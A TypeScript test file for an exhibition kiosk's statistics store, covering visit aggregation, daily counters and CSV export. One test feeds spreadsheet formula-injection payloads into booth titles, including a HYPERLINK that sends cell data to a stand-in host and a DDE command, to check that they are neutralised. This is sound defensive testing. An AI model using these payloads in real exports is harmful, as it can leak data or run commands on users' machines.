import 'fake-indexeddb/auto';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import {
  CSV_BOM,
  MAX_VISIT_MS,
  clearStats,
  closeStatsDb,
  csvField,
  dailyCountersToCsv,
  localDate,
  readStats,
  recordBoothDwell,
  recordBoothVisit,
  recordIdleReset,
  recordSession,
  recordTourInterruption,
  statsToCsv,
  type VisitStats,
} from './statsStore.ts';

const day1 = new Date(2024, 4, 3, 10, 0);
const day1Late = new Date(2024, 4, 3, 23, 59, 59);
const day2 = new Date(2024, 4, 4, 0, 0, 1);

const exhibition = {
  booths: [
    { id: 'virtual-tv-host', title: { zh: '虚拟电视主持人', en: 'Virtual TV host' } },
    { id: 'ar-helmet', title: { zh: 'AR 头盔, "智能"', en: 'AR helmet, the "smart" one' } },
  ],
} as unknown as Parameters<typeof statsToCsv>[1];

beforeEach(async () => {
  await clearStats();
});

afterAll(async () => {
  await closeStatsDb();
});

describe('statsStore', () => {
  it('names days by the local calendar', () => {
    expect(localDate(day1)).toBe('2024-05-03');
    expect(localDate(day1Late)).toBe('2024-05-03');
    expect(localDate(day2)).toBe('2024-05-04');
  });

  it('aggregates visits and dwell per day and booth', async () => {
    await recordBoothVisit('virtual-tv-host', 3_000, day1);
    await recordBoothVisit('virtual-tv-host', 5_500, day1Late);
    await recordBoothVisit('ar-helmet', 4_000, day1);
    await recordBoothVisit('virtual-tv-host', 10_000, day2);
    const stats = await readStats();
    expect(stats.booths).toEqual([
      { date: '2024-05-03', boothId: 'ar-helmet', visits: 1, dwellMs: 4_000 },
      { date: '2024-05-03', boothId: 'virtual-tv-host', visits: 2, dwellMs: 8_500 },
      { date: '2024-05-04', boothId: 'virtual-tv-host', visits: 1, dwellMs: 10_000 },
    ]);
  });

  it('keeps aggregates only: no timestamps, no other fields', async () => {
    await recordBoothVisit('virtual-tv-host', 3_000, day1);
    const [row] = (await readStats()).booths;
    expect(Object.keys(row ?? {}).sort()).toEqual(['boothId', 'date', 'dwellMs', 'visits']);
  });

  it('ignores visits shorter than 2 s and nonsense durations', async () => {
    expect(await recordBoothVisit('virtual-tv-host', 1_999, day1)).toBe(false);
    expect(await recordBoothVisit('virtual-tv-host', -5, day1)).toBe(false);
    expect(await recordBoothVisit('virtual-tv-host', Number.NaN, day1)).toBe(false);
    expect(await recordBoothVisit('', 5_000, day1)).toBe(false);
    expect((await readStats()).booths).toEqual([]);
    expect(await recordBoothVisit('virtual-tv-host', 2_000, day1)).toBe(true);
    expect((await readStats()).booths).toEqual([
      { date: '2024-05-03', boothId: 'virtual-tv-host', visits: 1, dwellMs: 2_000 },
    ]);
  });

  it('caps one visit at 30 minutes', async () => {
    await recordBoothVisit('virtual-tv-host', 5 * 3_600_000, day1);
    await recordBoothVisit('virtual-tv-host', Number.POSITIVE_INFINITY, day1);
    const [row] = (await readStats()).booths;
    expect(row).toMatchObject({ visits: 1, dwellMs: MAX_VISIT_MS });
  });

  it('adds continued dwell without counting another visit', async () => {
    await recordBoothVisit('virtual-tv-host', 3_000, day1);
    await recordBoothDwell('virtual-tv-host', 1_000, day1);
    expect((await readStats()).booths[0]).toMatchObject({ visits: 1, dwellMs: 4_000 });
  });

  it('loses no update when writes overlap', async () => {
    await Promise.all(Array.from({ length: 20 }, () => recordBoothVisit('ar-helmet', 2_500, day1)));
    expect((await readStats()).booths[0]).toMatchObject({ visits: 20, dwellMs: 50_000 });
  });

  it('reads what was written just before, even without waiting', async () => {
    void recordBoothVisit('ar-helmet', 2_500, day1);
    void recordTourInterruption(day1);
    const stats = await readStats();
    expect(stats.booths).toHaveLength(1);
    expect(stats.days).toHaveLength(1);
  });

  it('counts tour interruptions, idle resets and sessions per day', async () => {
    await recordTourInterruption(day1);
    await recordTourInterruption(day1Late);
    await recordIdleReset(day1);
    await recordSession(day2);
    expect((await readStats()).days).toEqual([
      { date: '2024-05-03', tourInterruptions: 2, idleResets: 1, sessions: 0 },
      { date: '2024-05-04', tourInterruptions: 0, idleResets: 0, sessions: 1 },
    ]);
  });

  it('keeps the data on the device across connections', async () => {
    await recordBoothVisit('ar-helmet', 2_500, day1);
    await closeStatsDb();
    expect((await readStats()).booths).toHaveLength(1);
  });

  it('clears everything', async () => {
    await recordBoothVisit('ar-helmet', 2_500, day1);
    await recordIdleReset(day1);
    await clearStats();
    expect(await readStats()).toEqual({ booths: [], days: [] });
  });
});

describe('CSV', () => {
  const stats: VisitStats = {
    booths: [
      { date: '2024-05-03', boothId: 'ar-helmet', visits: 2, dwellMs: 8_600 },
      { date: '2024-05-03', boothId: 'virtual-tv-host', visits: 1, dwellMs: 3_400 },
      { date: '2024-05-03', boothId: 'gone-booth', visits: 1, dwellMs: 2_000 },
      { date: '2024-05-04', boothId: 'ar-helmet', visits: 1, dwellMs: 2_000 },
    ],
    days: [{ date: '2024-05-03', tourInterruptions: 3, idleResets: 2, sessions: 1 }],
  };

  it('quotes fields as RFC 4180 says', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField(42)).toBe('42');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
  });

  it('writes per-booth rows with a BOM, CRLF, both titles and whole seconds', () => {
    const csv = statsToCsv(stats, exhibition);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'date,booth_id,booth_title_zh,booth_title_en,visits,dwell_seconds',
      '2024-05-03,virtual-tv-host,虚拟电视主持人,Virtual TV host,1,3',
      '2024-05-03,ar-helmet,"AR 头盔, ""智能""","AR helmet, the ""smart"" one",2,9',
      '2024-05-03,gone-booth,,,1,2',
      '2024-05-04,ar-helmet,"AR 头盔, ""智能""","AR helmet, the ""smart"" one",1,2',
      '',
    ]);
  });

  it('works without the exhibition (ids only)', () => {
    const csv = statsToCsv(stats);
    expect(csv).toContain('\r\n2024-05-03,ar-helmet,,,2,9\r\n');
  });

  it('writes the daily counters as a second file', () => {
    const csv = dailyCountersToCsv(stats);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'date,sessions,tour_interruptions,idle_resets,booth_visits,dwell_seconds',
      '2024-05-03,1,3,2,4,14',
      '2024-05-04,0,0,0,1,2',
      '',
    ]);
  });

  it('is a header only when there is nothing yet', () => {
    expect(statsToCsv({ booths: [], days: [] })).toBe(
      `${CSV_BOM}date,booth_id,booth_title_zh,booth_title_en,visits,dwell_seconds\r\n`,
    );
  });

  it('neutralises every cell a spreadsheet would run as a formula (OWASP)', () => {
    const titles = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      "=cmd|' /C calc'!A0",
      '+SUM(1+1)',
      '-2+3',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const booths = titles.map((title, i) => ({ id: `evil-${i}`, title: { zh: title, en: title } }));
    const evil: VisitStats = {
      booths: booths.map((b) => ({ date: '2024-05-03', boothId: b.id, visits: 1, dwellMs: 2_000 })),
      days: [],
    };
    const csv = statsToCsv(evil, { booths } as unknown as Parameters<typeof statsToCsv>[1]);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(titles.length + 1);
    rows.slice(1).forEach((row, i) => {
      expect(row[2]).toBe(`'${titles[i]}`);
      expect(row[3]).toBe(`'${titles[i]}`);
      expect(row[4]).toBe('1');
    });
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csvField(-5)).toBe('-5');
    expect(csvField('AR = VR')).toBe('AR = VR');
  });
});

/** A small RFC 4180 reader, as a spreadsheet reads the file: quoted fields, doubled quotes, CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}
